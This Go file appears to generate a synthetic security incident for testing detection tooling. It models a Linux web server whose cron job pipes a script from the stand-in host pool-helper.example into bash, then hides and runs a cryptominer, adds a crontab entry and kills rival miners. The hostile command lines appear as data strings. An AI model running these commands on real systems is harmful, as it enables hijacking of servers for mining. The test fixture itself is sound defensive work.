package sample

// cryptoMiner is a Linux server on which a scheduled job fetches and runs a miner.
func cryptoMiner(c clock) scenario {
	t := c.from(95 * minute)
	n := northwind()
	www := person{account: "www-data", local: "nw-web-03"}
	root := person{account: "root", local: "nw-web-03"}
	web := &device{
		tenant: n, host: "nw-web-03", platform: "Linux", version: "24.4", build: 0, group: "Web servers", risk: "high", antivirus: "disabled",
		localIP: "172.16.5.23", externalIP: "198.51.100.91", firstSeen: c.from(410 * day).at(0), notInEntra: true,
		vm: object{{"vmId", guid("vm/nw-web-03")}, {"cloudProvider", "azure"},
			{"resourceId", subscription(n) + "/resourceGroups/web/providers/Microsoft.Compute/virtualMachines/nw-web-03"},
			{"subscriptionId", guid("subscription/" + n.id)}},
	}
	bin := func(name string, size int64) file { return file{folder: "/usr/bin", name: name, size: size} }
	cron := &process{device: web, user: root, id: 812, started: t.at(-30 * day), image: file{folder: "/usr/sbin", name: "cron"}}
	job := cron.child(40112, t.at(0), bin("dash", 129816), `/bin/sh -c curl -fsSL http://pool-helper.example/i.sh | bash`)
	job.user = www
	fetch := job.child(40113, t.at(0.4), bin("curl", 260328), `curl -fsSL http://pool-helper.example/i.sh`)
	shell := job.child(40114, t.at(0.8), bin("bash", 1446024), `bash`)
	decode := shell.child(40118, t.at(3), bin("base64", 39384), `base64 -d`)
	hide := shell.child(40121, t.at(4), bin("chattr", 14664), `chattr +i /var/tmp/.x/kworkerds`)
	miner := file{folder: "/var/tmp/.x", name: "kworkerds", size: 6291456}
	dig := shell.child(40130, t.at(6), miner, `/var/tmp/.x/kworkerds -o stratum+tcp://pool-helper.example:3333 -u sample --cpu-max 60`)
	add := shell.child(40144, t.at(9), bin("crontab", 39568), `crontab -u www-data -`)
	kill := shell.child(40150, t.at(12), bin("pkill", 30968), `pkill -f other-miner`)

	r := noted(t.recorded(7 * minute))
	first := alert{
		key: "miner/script", product: endpoint(), title: "Script piped from the internet into a shell", severity: "medium", first: job.started,
		last: decode.started, created: r.at, updated: r.at,
		description: "A scheduled job of the web server's account fetched a script over plain HTTP and ran it without saving it.",
		actions:     []string{"Read the account's crontab.", "Find the weakness through which the job was added."},
		categories:  []string{"Execution", "Persistence"}, mitre: []string{"T1059.004", "T1053.003", "T1105"},
		evidence: []object{
			web.evidence(r.suspicious("active").primary()), www.evidence(r.suspicious("active")), job.evidence(r.suspicious("active")),
			fetch.evidence(r.suspicious("active")), shell.evidence(r.malicious("active")),
			decode.evidence(r.suspicious("active")), link(r.malicious("active"), "http://pool-helper.example/i.sh"),
			file{folder: "/var/spool/cron/crontabs", name: "www-data", size: 212}.on(*web, r.suspicious("active"), ""),
		},
	}
	r = noted(t.recorded(20 * minute))
	second := alert{
		key: "miner/mining", product: endpoint(), title: "Process mines cryptocurrency", severity: "high", threat: "Trojan:Linux/Coinhelper.B",
		first: dig.started, last: t.at(85 * minute), created: r.at, updated: t.recorded(87 * minute),
		description: "A hidden program with the name of a kernel thread keeps the processor busy and talks to a mining pool.",
		actions:     []string{"Stop the process and delete the file.", "Rebuild the server if root was reached."},
		categories:  []string{"Impact"}, mitre: []string{"T1496", "T1564.001", "T1036.004"},
		evidence: []object{
			web.evidence(r.suspicious("active").primary()), shell.evidence(r.malicious("active")), dig.evidence(r.malicious("active")),
			hide.evidence(r.suspicious("active")), add.evidence(r.suspicious("active")), kill.evidence(r),
			miner.on(*web, r.malicious("active"), "detected"), miner.hash(r.malicious("active")),
			dns(r.malicious("active"), "pool-helper.example", "", "203.0.113.180"),
			connection(r.malicious("active"), "172.16.5.23", 47122, "203.0.113.180", 3333, "tcp"),
			ip(r.malicious("active"), "203.0.113.180", &place{"SG", "Singapore", "", "Singapore", 1.29, 103.85}),
		},
	}
	return scenario{first: []incident{{
		tenant: n, id: "7502", name: "Execution & Impact on one endpoint", severity: "high", created: first.created, updated: second.updated,
		priority: 77, tags: []string{"web"}, alerts: []alert{first, second},
	}}}
}
